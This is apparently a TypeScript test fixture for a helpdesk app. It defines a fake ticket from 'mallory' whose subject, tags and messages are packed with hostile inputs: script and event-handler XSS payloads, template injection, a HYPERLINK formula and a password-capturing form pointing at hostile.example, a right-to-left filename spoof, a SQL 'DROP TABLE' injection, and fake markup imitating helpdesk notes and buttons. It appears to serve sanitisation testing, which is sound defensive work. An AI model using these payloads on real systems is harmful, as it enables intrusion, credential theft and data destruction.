import type { Story } from './story.ts';

const RTL = '\u202E';

/** Tries to run, to pass for a colleague, for a note, for the composer, and for another ticket. */
export const story: Story = {
  id: 352210,
  subject: `</title><script>window.pwned=3</script> Refund ${RTL}gnp.eciovni [#352184] {{7*7}} =HYPERLINK("https://hostile.example","x")`,
  source: 1,
  status: 2,
  priority: 2,
  tags: ['<i>tag</i>', '"onmouseover="window.pwned=4'],
  requester: 'mallory',
  responder: 'mira',
  log: [
    {
      from: 'mallory',
      ago: '3h',
      text: '<img src=x onerror="window.pwned=5"> Hello, <script>window.pwned=6</script> a refund, please.',
      html: `<div><p>Hello, a refund, please.</p><img src="x" onerror="window.pwned=9"><script>window.pwned=10</script><svg onload="window.pwned=11"><text>svg</text></svg><p onclick="window.pwned=13" class="privatenote ticket-details__privatenote">A false note.</p><div class="ticket-details__item privatenote" id="ticket-details"><div class="ticket_note">A false message.</div><span class="breadcrumb__item active">352184</span><h2 class="ticket-subject-heading">A false subject</h2></div><a href="/a/contacts/1">A false customer</a><div class="ticket-editor"><div class="fr-element fr-view" contenteditable="true">A false composer</div><button class="reply-btn" id="send-and-set">A false button</button></div><iframe srcdoc="<script>parent.pwned=15</script>"></iframe><form action="https://hostile.example"><input name="password"></form><style>*{display:none}</style></div></div></div>`,
    },
    {
      from: 'mira',
      ago: '2h',
      text: `Hi Eve,

Thank you for writing. Your message reached us a little scrambled. Which order is it about?

Kind regards,
Mira`,
    },
    {
      from: 'mallory',
      ago: '40m',
      text: `Order ‘); DROP TABLE orders;-- and __proto__ . "><textarea autofocus onfocus=window.pwned=16>`,
    },
  ],
};
